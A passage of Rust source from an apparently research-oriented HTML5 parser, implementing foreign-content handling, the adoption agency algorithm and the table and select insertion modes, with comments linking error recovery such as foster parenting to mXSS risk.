        // annotation-xml with an svg start tag switches to SVG.
        if ns == Namespace::MathMl && name == "annotation-xml" {
            if let Token::StartTag(t) = token {
                if t.name == "svg" {
                    return false;
                }
            }
            // HTML integration point when encoding is text/html or XHTML —
            // approximated by checking the encoding attribute.
            if self.annotation_xml_is_integration()
                && matches!(token, Token::StartTag(_) | Token::Characters(_))
            {
                return false;
            }
        }
        // SVG HTML integration points.
        if ns == Namespace::Svg
            && tags::is_svg_html_integration_atom(&name)
            && matches!(token, Token::StartTag(_) | Token::Characters(_))
        {
            return false;
        }
        !matches!(token, Token::Eof)
    }

    fn annotation_xml_is_integration(&self) -> bool {
        self.current()
            .and_then(|id| self.doc.element(id))
            .and_then(|e| e.attr("encoding"))
            .map(|enc| {
                enc.eq_ignore_ascii_case("text/html")
                    || enc.eq_ignore_ascii_case("application/xhtml+xml")
            })
            .unwrap_or(false)
    }

    /// Namespace of the outermost foreign element currently open — tells the
    /// HF5 checker whether a breakout escaped an `<svg>` or a `<math>`.
    fn foreign_root_ns(&self) -> Namespace {
        for &id in &self.open {
            if let Some(e) = self.doc.element(id) {
                if e.ns != Namespace::Html {
                    return e.ns;
                }
            }
        }
        // Fall back to the current node's namespace.
        self.current().and_then(|id| self.doc.element(id)).map(|e| e.ns).unwrap_or(Namespace::Html)
    }

    /// §13.2.6.5 "The rules for parsing tokens in foreign content".
    pub(crate) fn foreign_content(&mut self, token: Token, tok: &mut Tokenizer<'_>) -> Ctl {
        match token {
            Token::Characters(s) => {
                let cleaned: String =
                    s.chars().map(|c| if c == '\0' { '\u{FFFD}' } else { c }).collect();
                if cleaned.chars().any(|c| !super::is_html_whitespace(c)) {
                    self.frameset_ok = false;
                }
                self.insert_chars(&cleaned, false);
                Ctl::Done
            }
            Token::Comment(c) => {
                self.insert_comment(&c);
                Ctl::Done
            }
            Token::Doctype(_) => {
                self.event(TreeEventKind::UnexpectedDoctype);
                Ctl::Done
            }
            Token::StartTag(ref tag) => {
                let breakout = tags::is_foreign_breakout_atom(&tag.name)
                    || (tag.name == "font"
                        && tag
                            .attrs
                            .iter()
                            .any(|a| matches!(a.name.as_str(), "color" | "face" | "size")));
                if breakout {
                    // HF5: pop foreign elements until an integration point
                    // or HTML element, then reprocess with HTML rules.
                    let root_ns = self.foreign_root_ns();
                    self.event(TreeEventKind::ForeignBreakout {
                        tag: tag.name.to_string(),
                        root_ns,
                    });
                    #[allow(clippy::while_let_loop)]
                    loop {
                        let Some(&cur) = self.open.last() else { break };
                        let Some(e) = self.doc.element(cur) else { break };
                        let stop = e.ns == Namespace::Html
                            || (e.ns == Namespace::MathMl
                                && tags::is_mathml_text_integration_atom(&e.name))
                            || (e.ns == Namespace::Svg
                                && tags::is_svg_html_integration_atom(&e.name));
                        if stop {
                            break;
                        }
                        self.open.pop();
                    }
                    return Ctl::Reprocess(token);
                }
                // Insert in the adjusted current node's namespace.
                let ns = self.adjusted_current().map(|(ns, _)| ns).unwrap_or(Namespace::Html);
                self.insert_element(tag, ns, false);
                if tag.self_closing {
                    // Foreign content acknowledges self-closing tags.
                    self.open.pop();
                }
                Ctl::Done
            }
            Token::EndTag(ref tag) => {
                // `</script>` in SVG would run the script; we just pop.
                if let Some((Namespace::Svg, name)) = self.adjusted_current() {
                    if name == "script" && tag.name == "script" {
                        self.open.pop();
                        return Ctl::Done;
                    }
                }
                // Walk the stack from the current node looking for a
                // case-insensitive match; an HTML element hands over to the
                // HTML rules.
                if let Some((_, cur_name)) = self.adjusted_current() {
                    // The end tag name is already lowercased, so a
                    // case-insensitive compare matches the old
                    // `to_ascii_lowercase()` allocation exactly.
                    if !cur_name.eq_ignore_ascii_case(&tag.name) {
                        self.event(TreeEventKind::ForeignEndTagMismatch {
                            tag: tag.name.to_string(),
                        });
                    }
                }
                let mut i = self.open.len();
                while i > 0 {
                    i -= 1;
                    let id = self.open[i];
                    let Some(e) = self.doc.element(id) else { break };
                    if e.ns == Namespace::Html {
                        // Process using HTML rules.
                        return self.mode_dispatch_from_foreign(token, tok);
                    }
                    if e.name.eq_ignore_ascii_case(&tag.name) {
                        self.open.truncate(i);
                        return Ctl::Done;
                    }
                }
                Ctl::Done
            }
            Token::Eof => {
                // EOF never reaches foreign rules (dispatcher sends it to
                // the mode handler), but stay safe.
                self.stop_parsing()
            }
        }
    }

    fn mode_dispatch_from_foreign(&mut self, token: Token, tok: &mut Tokenizer<'_>) -> Ctl {
        // Hand the token to the current insertion mode's HTML rules.
        self.mode_dispatch(token, tok)
    }
}
