//! The list of active formatting elements and the adoption agency algorithm
//! (§13.2.4.3, §13.2.6.4.7).
//!
//! This machinery is what makes misnested formatting markup like
//! `<b><i>x</b>y</i>` render "as intended" — by silently rewriting the tree.
//! The paper counts on it indirectly: serialize-and-reparse auto-fixing
//! (§4.4) only converges because this algorithm is deterministic.

use super::{Builder, TreeEventKind};
use crate::dom::{ElemAttr, Namespace, NodeId};
use crate::tags;
use crate::tokenizer::Tag;

/// An entry in the list of active formatting elements.
#[derive(Debug, Clone)]
pub enum FormatEntry {
    /// Scope marker (inserted by applet/object/marquee/template/td/th/caption).
    Marker,
    /// A formatting element, with the tag that created it (for re-creation
    /// during reconstruction).
    Element { node: NodeId, tag: Tag },
}

/// Drop entries up to and including the last marker.
pub fn clear_to_marker(list: &mut Vec<FormatEntry>) {
    while let Some(entry) = list.pop() {
        if matches!(entry, FormatEntry::Marker) {
            break;
        }
    }
}

impl Builder {
    /// Push onto the list of active formatting elements with the Noah's Ark
    /// clause (at most three identical entries since the last marker).
    pub(crate) fn push_formatting(&mut self, node: NodeId, tag: &Tag) {
        let mut same = 0usize;
        let mut drop_idx = None;
        for (i, e) in self.formatting.iter().enumerate().rev() {
            match e {
                FormatEntry::Marker => break,
                FormatEntry::Element { tag: t, .. } => {
                    if t.name == tag.name && t.attrs == tag.attrs {
                        same += 1;
                        drop_idx = Some(i);
                    }
                }
            }
        }
        if same >= 3 {
            if let Some(i) = drop_idx {
                self.formatting.remove(i);
            }
        }
        self.formatting.push(FormatEntry::Element { node, tag: tag.clone() });
    }

    /// Remove a node from the formatting list, if present.
    pub(crate) fn remove_from_formatting(&mut self, node: NodeId) {
        self.formatting
            .retain(|e| !matches!(e, FormatEntry::Element { node: n, .. } if *n == node));
    }

    /// §13.2.6.1 "reconstruct the active formatting elements".
    pub(crate) fn reconstruct_formatting(&mut self) {
        // 1. Nothing to do if the list is empty.
        let Some(last) = self.formatting.last() else { return };
        // 2-3. …or the last entry is a marker / already open.
        match last {
            FormatEntry::Marker => return,
            FormatEntry::Element { node, .. } => {
                if self.open.contains(node) {
                    return;
                }
            }
        }
        // 4-6. Rewind to the earliest entry (after a marker / open element)
        // that needs re-creation.
        let mut i = self.formatting.len() - 1;
        loop {
            if i == 0 {
                break;
            }
            let prev = &self.formatting[i - 1];
            match prev {
                FormatEntry::Marker => break,
                FormatEntry::Element { node, .. } => {
                    if self.open.contains(node) {
                        break;
                    }
                }
            }
            i -= 1;
        }
        // 7-10. Re-create each entry in order and update the list.
        while i < self.formatting.len() {
            let tag = match &self.formatting[i] {
                FormatEntry::Element { tag, .. } => tag.clone(),
                FormatEntry::Marker => {
                    i += 1;
                    continue;
                }
            };
            let foster = self.foster_for_current();
            let new = self.insert_element(&tag, Namespace::Html, foster);
            self.formatting[i] = FormatEntry::Element { node: new, tag };
            i += 1;
        }
    }

    /// Whether inserting at the current node would need foster parenting
    /// (used when reconstruction happens inside table structure).
    pub(crate) fn foster_for_current(&self) -> bool {
        matches!(
            self.current_name(),
            Some("table") | Some("tbody") | Some("tfoot") | Some("thead") | Some("tr")
        )
    }

    /// §13.2.6.4.7 "adoption agency algorithm" for an end tag named
    /// `subject`. Returns `true` if handled; `false` means the caller should
    /// fall back to the "any other end tag" steps.
    pub(crate) fn adoption_agency(&mut self, subject: &str) -> bool {
        // Fast path: current node is the subject and not in the list.
        if let Some(cur) = self.current() {
            if self.doc.is_html(cur, subject)
                && !self
                    .formatting
                    .iter()
                    .any(|e| matches!(e, FormatEntry::Element { node, .. } if *node == cur))
            {
                self.open.pop();
                return true;
            }
        }

        for _outer in 0..8 {
            // Find the formatting element: last entry for subject before a
            // marker.
            let fmt_idx = self.formatting.iter().rposition(|e| match e {
                FormatEntry::Element { tag, .. } => tag.name == subject,
                FormatEntry::Marker => false,
            });
            let marker_after =
                self.formatting.iter().rposition(|e| matches!(e, FormatEntry::Marker));
            let fmt_idx = match (fmt_idx, marker_after) {
                (Some(f), Some(m)) if m > f => None,
                (f, _) => f,
            };
            let Some(fmt_idx) = fmt_idx else { return false };
            let fmt_node = match &self.formatting[fmt_idx] {
                FormatEntry::Element { node, .. } => *node,
                FormatEntry::Marker => unreachable!(),
            };

            // Not on the stack of open elements → parse error; remove.
            let Some(stack_idx) = self.open.iter().position(|&n| n == fmt_node) else {
                self.event(TreeEventKind::StrayEndTag { tag: subject.to_owned() });
                self.formatting.remove(fmt_idx);
                return true;
            };

            // Not in scope → parse error; ignore.
            if !self.in_scope(subject) {
                self.event(TreeEventKind::StrayEndTag { tag: subject.to_owned() });
                return true;
            }
            if self.open.last() != Some(&fmt_node) {
                self.event(TreeEventKind::AdoptionAgency { tag: subject.to_owned() });
            }

            // Furthest block: lowest element in the stack below fmt that is
            // "special".
            let furthest = self.open[stack_idx + 1..]
                .iter()
                .copied()
                .find(|&id| self.doc.html_name(id).map(tags::is_special).unwrap_or(false));
            let Some(furthest_block) = furthest else {
                // No furthest block: pop through the formatting element.
                self.open.truncate(stack_idx);
                self.formatting.remove(fmt_idx);
                return true;
            };

            let common_ancestor = self.open[stack_idx - 1];
            let mut bookmark = fmt_idx;

            // Inner loop.
            let mut node_stack_idx = self.open.iter().position(|&n| n == furthest_block).unwrap();
            let mut node;
            let mut last_node = furthest_block;
            let mut inner = 0;
            loop {
                inner += 1;
                node_stack_idx -= 1;
                node = self.open[node_stack_idx];
                if node == fmt_node {
                    break;
                }
                let in_fmt_list = self
                    .formatting
                    .iter()
                    .position(|e| matches!(e, FormatEntry::Element { node: n, .. } if *n == node));
                if inner > 3 {
                    if let Some(i) = in_fmt_list {
                        self.formatting.remove(i);
                        if i < bookmark {
                            bookmark -= 1;
                        }
                    }
                    self.open.remove(node_stack_idx);
                    continue;
                }
                let Some(fmt_list_idx) = in_fmt_list else {
                    self.open.remove(node_stack_idx);
                    continue;
                };
                // Re-create the element.
                let tag = match &self.formatting[fmt_list_idx] {
                    FormatEntry::Element { tag, .. } => tag.clone(),
                    FormatEntry::Marker => unreachable!(),
                };
                let attrs: Vec<ElemAttr> = tag
                    .attrs
                    .iter()
                    .map(|a| ElemAttr { name: a.name.clone(), value: a.value.clone() })
                    .collect();
                let new = self.doc.create_element(&tag.name, Namespace::Html, attrs);
                self.formatting[fmt_list_idx] = FormatEntry::Element { node: new, tag };
                self.open[node_stack_idx] = new;
                node = new;
                if last_node == furthest_block {
                    bookmark = fmt_list_idx + 1;
                }
                self.doc.append(node, last_node);
                last_node = node;
            }
            let _ = node;

            // Place last_node below the common ancestor (with foster
            // parenting if the ancestor is table structure).
            let foster = matches!(
                self.doc.html_name(common_ancestor),
                Some("table") | Some("tbody") | Some("tfoot") | Some("thead") | Some("tr")
            );
            if foster {
                if let Some(&table) =
                    self.open.iter().rev().find(|&&id| self.doc.is_html(id, "table"))
                {
                    if self.doc.node(table).parent.is_some() {
                        self.doc.insert_before(table, last_node);
                    } else {
                        self.doc.append(common_ancestor, last_node);
                    }
                } else {
                    self.doc.append(common_ancestor, last_node);
                }
            } else {
                self.doc.append(common_ancestor, last_node);
            }

            // New element: clone of the formatting element, adopting the
            // furthest block's children.
            let tag = match &self.formatting[fmt_idx] {
                FormatEntry::Element { tag, .. } => tag.clone(),
                FormatEntry::Marker => unreachable!(),
            };
            let attrs: Vec<ElemAttr> = tag
                .attrs
                .iter()
                .map(|a| ElemAttr { name: a.name.clone(), value: a.value.clone() })
                .collect();
            let new_fmt = self.doc.create_element(&tag.name, Namespace::Html, attrs);
            self.doc.reparent_children(furthest_block, new_fmt);
            self.doc.append(furthest_block, new_fmt);

            // Update the formatting list: remove old entry, insert new at
            // the bookmark.
            self.formatting.remove(fmt_idx);
            let bookmark =
                bookmark.min(self.formatting.len()).saturating_sub(usize::from(bookmark > fmt_idx));
            self.formatting.insert(bookmark, FormatEntry::Element { node: new_fmt, tag });

            // Update the stack: remove old fmt element, insert new one right
            // below (after) the furthest block.
            self.open.retain(|&n| n != fmt_node);
            let fb_idx = self.open.iter().position(|&n| n == furthest_block).unwrap();
            self.open.insert(fb_idx + 1, new_fmt);

            // Loop again in case more instances remain.
            let more = self.formatting.iter().any(|e| match e {
                FormatEntry::Element { tag, .. } => tag.name == subject,
                FormatEntry::Marker => false,
            });
            if !more {
                return true;
            }
        }
        true
    }
}
