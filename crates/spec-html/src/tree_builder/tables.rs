//! Table insertion modes (§13.2.6.4.9–15) and the select modes
//! (§13.2.6.4.16–17).
//!
//! Table error tolerance is the paper's HF4: any content that does not
//! belong in a table is *foster parented* — moved in front of the table —
//! which visibly "works" and so goes unnoticed by developers, while enabling
//! mXSS reordering attacks (Figure 1's `<table>` hop).

use super::{is_html_whitespace, Builder, Ctl, InsertionMode, TreeEventKind};
use crate::tokenizer::{Tag, Token, Tokenizer};

impl Builder {
    pub(crate) fn in_table(&mut self, token: Token, tok: &mut Tokenizer<'_>) -> Ctl {
        match token {
            Token::Characters(_)
                if matches!(
                    self.current_name(),
                    Some("table" | "tbody" | "tfoot" | "thead" | "tr")
                ) =>
            {
                self.pending_table_text.clear();
                self.orig_mode = self.mode;
                self.mode = InsertionMode::InTableText;
                Ctl::Reprocess(token)
            }
            Token::Comment(c) => {
                self.insert_comment(&c);
                Ctl::Done
            }
            Token::Doctype(_) => {
                self.event(TreeEventKind::UnexpectedDoctype);
                Ctl::Done
            }
            Token::StartTag(ref tag) => match tag.name.as_str() {
                "caption" => {
                    self.clear_to_table_context();
                    self.formatting.push(super::FormatEntry::Marker);
                    self.insert_html(tag);
                    self.mode = InsertionMode::InCaption;
                    Ctl::Done
                }
                "colgroup" => {
                    self.clear_to_table_context();
                    self.insert_html(tag);
                    self.mode = InsertionMode::InColumnGroup;
                    Ctl::Done
                }
                "col" => {
                    self.clear_to_table_context();
                    self.event(TreeEventKind::TableStructureImplied { tag: "colgroup".into() });
                    let cg = Tag::named("colgroup");
                    self.insert_html(&cg);
                    self.mode = InsertionMode::InColumnGroup;
                    Ctl::Reprocess(token)
                }
                "tbody" | "tfoot" | "thead" => {
                    self.clear_to_table_context();
                    self.insert_html(tag);
                    self.mode = InsertionMode::InTableBody;
                    Ctl::Done
                }
                "td" | "th" | "tr" => {
                    self.clear_to_table_context();
                    self.event(TreeEventKind::TableStructureImplied { tag: "tbody".into() });
                    let tb = Tag::named("tbody");
                    self.insert_html(&tb);
                    self.mode = InsertionMode::InTableBody;
                    Ctl::Reprocess(token)
                }
                "table" => {
                    // A table inside a table: close the current one first.
                    self.event(TreeEventKind::StrayStartTag { tag: "table".into() });
                    if self.in_table_scope("table") {
                        self.pop_through("table");
                        self.reset_insertion_mode();
                        return Ctl::Reprocess(token);
                    }
                    Ctl::Done
                }
                "style" | "script" | "template" => self.in_head(token.clone(), tok),
                "input" => {
                    let hidden = tag
                        .attr_value("type")
                        .map(|t| t.eq_ignore_ascii_case("hidden"))
                        .unwrap_or(false);
                    if hidden {
                        self.event(TreeEventKind::TableStructureImplied { tag: "input".into() });
                        self.insert_void(tag);
                        Ctl::Done
                    } else {
                        self.table_anything_else(token, tok)
                    }
                }
                "form" => {
                    self.event(TreeEventKind::StrayStartTag { tag: "form".into() });
                    if !self.stack_has("template") && self.form.is_none() {
                        let id = self.insert_html(tag);
                        self.form = Some(id);
                        self.open.pop();
                    }
                    Ctl::Done
                }
                _ => self.table_anything_else(token, tok),
            },
            Token::EndTag(ref tag) => match tag.name.as_str() {
                "table" => {
                    if !self.in_table_scope("table") {
                        self.event(TreeEventKind::StrayEndTag { tag: "table".into() });
                        return Ctl::Done;
                    }
                    self.pop_through("table");
                    self.reset_insertion_mode();
                    Ctl::Done
                }
                "body" | "caption" | "col" | "colgroup" | "html" | "tbody" | "td" | "tfoot"
                | "th" | "thead" | "tr" => {
                    self.event(TreeEventKind::StrayEndTag { tag: tag.name.to_string() });
                    Ctl::Done
                }
                "template" => self.in_head(token.clone(), tok),
                _ => self.table_anything_else(token, tok),
            },
            Token::Eof => self.in_body(Token::Eof, tok),
            Token::Characters(_) => self.table_anything_else(token, tok),
        }
    }

    /// "Anything else" in table: enable foster parenting and process using
    /// the in-body rules — the HF4 recovery.
    fn table_anything_else(&mut self, token: Token, tok: &mut Tokenizer<'_>) -> Ctl {
        // Set the spec's foster-parenting flag for this one token: inside
        // insert_element/insert_chars the flag redirects insertion in front
        // of the table and emits the FosterParented (HF4) event.
        self.foster = true;
        let ctl = self.in_body(token, tok);
        self.foster = false;
        ctl
    }

    pub(crate) fn in_table_text(&mut self, token: Token) -> Ctl {
        match token {
            Token::Characters(s) => {
                let cleaned: String = s.chars().filter(|&c| c != '\0').collect();
                self.pending_table_text.push_str(&cleaned);
                Ctl::Done
            }
            other => {
                let text = std::mem::take(&mut self.pending_table_text);
                if text.chars().any(|c| !is_html_whitespace(c)) {
                    // Non-whitespace in a table: foster-parent it.
                    self.reconstruct_formatting();
                    self.insert_chars(&text, true);
                    self.frameset_ok = false;
                } else if !text.is_empty() {
                    self.insert_chars(&text, false);
                }
                self.mode = self.orig_mode;
                Ctl::Reprocess(other)
            }
        }
    }

    pub(crate) fn in_caption(&mut self, token: Token, tok: &mut Tokenizer<'_>) -> Ctl {
        match token {
            Token::EndTag(ref tag) if tag.name == "caption" => {
                self.close_caption();
                Ctl::Done
            }
            Token::StartTag(ref tag)
                if matches!(
                    tag.name.as_str(),
                    "caption"
                        | "col"
                        | "colgroup"
                        | "tbody"
                        | "td"
                        | "tfoot"
                        | "th"
                        | "thead"
                        | "tr"
                ) =>
            {
                self.event(TreeEventKind::StrayStartTag { tag: tag.name.to_string() });
                if self.in_table_scope("caption") {
                    self.close_caption();
                    return Ctl::Reprocess(token);
                }
                Ctl::Done
            }
            Token::EndTag(ref tag) if tag.name == "table" => {
                if self.in_table_scope("caption") {
                    self.close_caption();
                    return Ctl::Reprocess(token);
                }
                self.event(TreeEventKind::StrayEndTag { tag: "table".into() });
                Ctl::Done
            }
            Token::EndTag(ref tag)
                if matches!(
                    tag.name.as_str(),
                    "body"
                        | "col"
                        | "colgroup"
                        | "html"
                        | "tbody"
                        | "td"
                        | "tfoot"
                        | "th"
                        | "thead"
                        | "tr"
                ) =>
            {
                self.event(TreeEventKind::StrayEndTag { tag: tag.name.to_string() });
                Ctl::Done
            }
            other => self.in_body(other, tok),
        }
    }

    fn close_caption(&mut self) {
        if !self.in_table_scope("caption") {
            self.event(TreeEventKind::StrayEndTag { tag: "caption".into() });
            return;
        }
        self.generate_implied_end_tags(None);
        self.pop_through("caption");
        super::formatting::clear_to_marker(&mut self.formatting);
        self.mode = InsertionMode::InTable;
    }

    pub(crate) fn in_column_group(&mut self, token: Token, tok: &mut Tokenizer<'_>) -> Ctl {
        match token {
            Token::Characters(ref s) => {
                let (ws, rest) = {
                    let rest = s.trim_start_matches(is_html_whitespace);
                    let ws_len = s.len() - rest.len();
                    (&s[..ws_len], rest)
                };
                if !ws.is_empty() {
                    self.insert_chars(ws, false);
                }
                if rest.is_empty() {
                    return Ctl::Done;
                }
                self.column_group_anything_else(Token::Characters(rest.to_owned()))
            }
            Token::Comment(c) => {
                self.insert_comment(&c);
                Ctl::Done
            }
            Token::Doctype(_) => {
                self.event(TreeEventKind::UnexpectedDoctype);
                Ctl::Done
            }
            Token::StartTag(ref tag) if tag.name == "html" => {
                self.merge_html_attrs(tag);
                Ctl::Done
            }
            Token::StartTag(ref tag) if tag.name == "col" => {
                self.insert_void(tag);
                Ctl::Done
            }
            Token::EndTag(ref tag) if tag.name == "colgroup" => {
                if self.current_is_html("colgroup") {
                    self.open.pop();
                    self.mode = InsertionMode::InTable;
                } else {
                    self.event(TreeEventKind::StrayEndTag { tag: "colgroup".into() });
                }
                Ctl::Done
            }
            Token::EndTag(ref tag) if tag.name == "col" => {
                self.event(TreeEventKind::StrayEndTag { tag: "col".into() });
                Ctl::Done
            }
            Token::StartTag(ref tag) if tag.name == "template" => self.in_head(token.clone(), tok),
            Token::EndTag(ref tag) if tag.name == "template" => self.in_head(token.clone(), tok),
            Token::Eof => self.in_body(Token::Eof, tok),
            other => self.column_group_anything_else(other),
        }
    }

    fn column_group_anything_else(&mut self, token: Token) -> Ctl {
        if self.current_is_html("colgroup") {
            self.open.pop();
            self.mode = InsertionMode::InTable;
            Ctl::Reprocess(token)
        } else {
            self.event(TreeEventKind::StrayStartTag { tag: "#colgroup-content".into() });
            Ctl::Done
        }
    }

    pub(crate) fn in_table_body(&mut self, token: Token, tok: &mut Tokenizer<'_>) -> Ctl {
        match token {
            Token::StartTag(ref tag) if tag.name == "tr" => {
                self.clear_to_table_body_context();
                self.insert_html(tag);
                self.mode = InsertionMode::InRow;
                Ctl::Done
            }
            Token::StartTag(ref tag) if matches!(tag.name.as_str(), "th" | "td") => {
                self.event(TreeEventKind::TableStructureImplied { tag: "tr".into() });
                self.clear_to_table_body_context();
                let tr = Tag::named("tr");
                self.insert_html(&tr);
                self.mode = InsertionMode::InRow;
                Ctl::Reprocess(token)
            }
            Token::EndTag(ref tag) if matches!(tag.name.as_str(), "tbody" | "tfoot" | "thead") => {
                if !self.in_table_scope(&tag.name) {
                    self.event(TreeEventKind::StrayEndTag { tag: tag.name.to_string() });
                    return Ctl::Done;
                }
                self.clear_to_table_body_context();
                self.open.pop();
                self.mode = InsertionMode::InTable;
                Ctl::Done
            }
            Token::StartTag(ref tag)
                if matches!(
                    tag.name.as_str(),
                    "caption" | "col" | "colgroup" | "tbody" | "tfoot" | "thead"
                ) =>
            {
                if self.any_in_table_scope(&["tbody", "thead", "tfoot"]) {
                    self.clear_to_table_body_context();
                    self.open.pop();
                    self.mode = InsertionMode::InTable;
                    return Ctl::Reprocess(token);
                }
                self.event(TreeEventKind::StrayStartTag { tag: tag.name.to_string() });
                Ctl::Done
            }
            Token::EndTag(ref tag) if tag.name == "table" => {
                if self.any_in_table_scope(&["tbody", "thead", "tfoot"]) {
                    self.clear_to_table_body_context();
                    self.open.pop();
                    self.mode = InsertionMode::InTable;
                    return Ctl::Reprocess(token);
                }
                self.event(TreeEventKind::StrayEndTag { tag: "table".into() });
                Ctl::Done
            }
            Token::EndTag(ref tag)
                if matches!(
                    tag.name.as_str(),
                    "body" | "caption" | "col" | "colgroup" | "html" | "td" | "th" | "tr"
                ) =>
            {
                self.event(TreeEventKind::StrayEndTag { tag: tag.name.to_string() });
                Ctl::Done
            }
            other => self.in_table(other, tok),
        }
    }

    pub(crate) fn in_row(&mut self, token: Token, tok: &mut Tokenizer<'_>) -> Ctl {
        match token {
            Token::StartTag(ref tag) if matches!(tag.name.as_str(), "th" | "td") => {
                self.clear_to_table_row_context();
                self.insert_html(tag);
                self.mode = InsertionMode::InCell;
                self.formatting.push(super::FormatEntry::Marker);
                Ctl::Done
            }
            Token::EndTag(ref tag) if tag.name == "tr" => {
                if !self.in_table_scope("tr") {
                    self.event(TreeEventKind::StrayEndTag { tag: "tr".into() });
                    return Ctl::Done;
                }
                self.clear_to_table_row_context();
                self.open.pop();
                self.mode = InsertionMode::InTableBody;
                Ctl::Done
            }
            Token::StartTag(ref tag)
                if matches!(
                    tag.name.as_str(),
                    "caption" | "col" | "colgroup" | "tbody" | "tfoot" | "thead" | "tr"
                ) =>
            {
                if self.in_table_scope("tr") {
                    self.clear_to_table_row_context();
                    self.open.pop();
                    self.mode = InsertionMode::InTableBody;
                    return Ctl::Reprocess(token);
                }
                self.event(TreeEventKind::StrayStartTag { tag: tag.name.to_string() });
                Ctl::Done
            }
            Token::EndTag(ref tag) if tag.name == "table" => {
                if self.in_table_scope("tr") {
                    self.clear_to_table_row_context();
                    self.open.pop();
                    self.mode = InsertionMode::InTableBody;
                    return Ctl::Reprocess(token);
                }
                self.event(TreeEventKind::StrayEndTag { tag: "table".into() });
                Ctl::Done
            }
            Token::EndTag(ref tag) if matches!(tag.name.as_str(), "tbody" | "tfoot" | "thead") => {
                if !self.in_table_scope(&tag.name) {
                    self.event(TreeEventKind::StrayEndTag { tag: tag.name.to_string() });
                    return Ctl::Done;
                }
                if self.in_table_scope("tr") {
                    self.clear_to_table_row_context();
                    self.open.pop();
                    self.mode = InsertionMode::InTableBody;
                    return Ctl::Reprocess(token);
                }
                Ctl::Done
            }
            Token::EndTag(ref tag)
                if matches!(
                    tag.name.as_str(),
                    "body" | "caption" | "col" | "colgroup" | "html" | "td" | "th"
                ) =>
            {
                self.event(TreeEventKind::StrayEndTag { tag: tag.name.to_string() });
                Ctl::Done
            }
            other => self.in_table(other, tok),
        }
    }

    pub(crate) fn in_cell(&mut self, token: Token, tok: &mut Tokenizer<'_>) -> Ctl {
        match token {
            Token::EndTag(ref tag) if matches!(tag.name.as_str(), "td" | "th") => {
                if !self.in_table_scope(&tag.name) {
                    self.event(TreeEventKind::StrayEndTag { tag: tag.name.to_string() });
                    return Ctl::Done;
                }
                self.generate_implied_end_tags(None);
                if !self.current_is_html(&tag.name) {
                    self.event(TreeEventKind::StrayEndTag { tag: tag.name.to_string() });
                }
                self.pop_through(&tag.name);
                super::formatting::clear_to_marker(&mut self.formatting);
                self.mode = InsertionMode::InRow;
                Ctl::Done
            }
            Token::StartTag(ref tag)
                if matches!(
                    tag.name.as_str(),
                    "caption"
                        | "col"
                        | "colgroup"
                        | "tbody"
                        | "td"
                        | "tfoot"
                        | "th"
                        | "thead"
                        | "tr"
                ) =>
            {
                if self.any_in_table_scope(&["td", "th"]) {
                    self.close_cell();
                    return Ctl::Reprocess(token);
                }
                self.event(TreeEventKind::StrayStartTag { tag: tag.name.to_string() });
                Ctl::Done
            }
            Token::EndTag(ref tag)
                if matches!(
                    tag.name.as_str(),
                    "body" | "caption" | "col" | "colgroup" | "html"
                ) =>
            {
                self.event(TreeEventKind::StrayEndTag { tag: tag.name.to_string() });
                Ctl::Done
            }
            Token::EndTag(ref tag)
                if matches!(tag.name.as_str(), "table" | "tbody" | "tfoot" | "thead" | "tr") =>
            {
                if self.in_table_scope(&tag.name) {
                    self.close_cell();
                    return Ctl::Reprocess(token);
                }
                self.event(TreeEventKind::StrayEndTag { tag: tag.name.to_string() });
                Ctl::Done
            }
            other => self.in_body(other, tok),
        }
    }

    fn close_cell(&mut self) {
        self.generate_implied_end_tags(None);
        while let Some(id) = self.open.pop() {
            if matches!(self.doc.html_name(id), Some("td" | "th")) {
                break;
            }
        }
        super::formatting::clear_to_marker(&mut self.formatting);
        self.mode = InsertionMode::InRow;
    }

    // ----- select modes -----

    pub(crate) fn in_select(&mut self, token: Token, tok: &mut Tokenizer<'_>) -> Ctl {
        match token {
            Token::Characters(s) => {
                let cleaned: String = s.chars().filter(|&c| c != '\0').collect();
                self.insert_chars(&cleaned, false);
                Ctl::Done
            }
            Token::Comment(c) => {
                self.insert_comment(&c);
                Ctl::Done
            }
            Token::Doctype(_) => {
                self.event(TreeEventKind::UnexpectedDoctype);
                Ctl::Done
            }
            Token::StartTag(ref tag) => match tag.name.as_str() {
                "html" => {
                    self.merge_html_attrs(tag);
                    Ctl::Done
                }
                "option" => {
                    if self.current_is_html("option") {
                        self.open.pop();
                    }
                    self.insert_html(tag);
                    Ctl::Done
                }
                "optgroup" => {
                    if self.current_is_html("option") {
                        self.open.pop();
                    }
                    if self.current_is_html("optgroup") {
                        self.open.pop();
                    }
                    self.insert_html(tag);
                    Ctl::Done
                }
                "select" => {
                    // <select> inside <select> acts like </select>.
                    self.event(TreeEventKind::StrayStartTag { tag: "select".into() });
                    if self.in_select_scope("select") {
                        self.pop_through("select");
                        self.reset_insertion_mode();
                    }
                    Ctl::Done
                }
                "input" | "keygen" | "textarea" => {
                    self.event(TreeEventKind::StrayStartTag { tag: tag.name.to_string() });
                    if self.in_select_scope("select") {
                        self.pop_through("select");
                        self.reset_insertion_mode();
                        return Ctl::Reprocess(token);
                    }
                    Ctl::Done
                }
                "script" | "template" => self.in_head(token.clone(), tok),
                _ => {
                    self.event(TreeEventKind::StrayStartTag { tag: tag.name.to_string() });
                    Ctl::Done
                }
            },
            Token::EndTag(ref tag) => match tag.name.as_str() {
                "optgroup" => {
                    if self.current_is_html("option") {
                        // An option directly inside optgroup closes too.
                        let len = self.open.len();
                        if len >= 2 && self.doc.is_html(self.open[len - 2], "optgroup") {
                            self.open.pop();
                        }
                    }
                    if self.current_is_html("optgroup") {
                        self.open.pop();
                    } else {
                        self.event(TreeEventKind::StrayEndTag { tag: "optgroup".into() });
                    }
                    Ctl::Done
                }
                "option" => {
                    if self.current_is_html("option") {
                        self.open.pop();
                    } else {
                        self.event(TreeEventKind::StrayEndTag { tag: "option".into() });
                    }
                    Ctl::Done
                }
                "select" => {
                    if !self.in_select_scope("select") {
                        self.event(TreeEventKind::StrayEndTag { tag: "select".into() });
                        return Ctl::Done;
                    }
                    self.pop_through("select");
                    self.reset_insertion_mode();
                    Ctl::Done
                }
                "template" => self.in_head(token.clone(), tok),
                _ => {
                    self.event(TreeEventKind::StrayEndTag { tag: tag.name.to_string() });
                    Ctl::Done
                }
            },
            Token::Eof => self.in_body(Token::Eof, tok),
        }
    }

    pub(crate) fn in_select_in_table(&mut self, token: Token, tok: &mut Tokenizer<'_>) -> Ctl {
        match &token {
            Token::StartTag(tag)
                if matches!(
                    tag.name.as_str(),
                    "caption" | "table" | "tbody" | "tfoot" | "thead" | "tr" | "td" | "th"
                ) =>
            {
